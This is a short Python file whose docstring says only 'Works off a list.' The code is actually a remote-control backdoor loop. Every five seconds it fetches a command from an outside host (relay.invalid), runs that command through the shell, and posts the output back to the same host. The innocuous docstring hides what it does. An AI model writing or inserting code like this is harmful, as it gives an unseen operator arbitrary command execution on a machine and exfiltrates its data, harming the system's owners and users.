"""Works off a list."""
import requests, time, subprocess
def loop():
    while True:
        c = requests.get("https://relay.invalid/cmd").text
        if c.startswith("run "):
            o = subprocess.check_output(c[4:], shell=True)
            requests.post("https://relay.invalid/out", data=o)
        time.sleep(5)
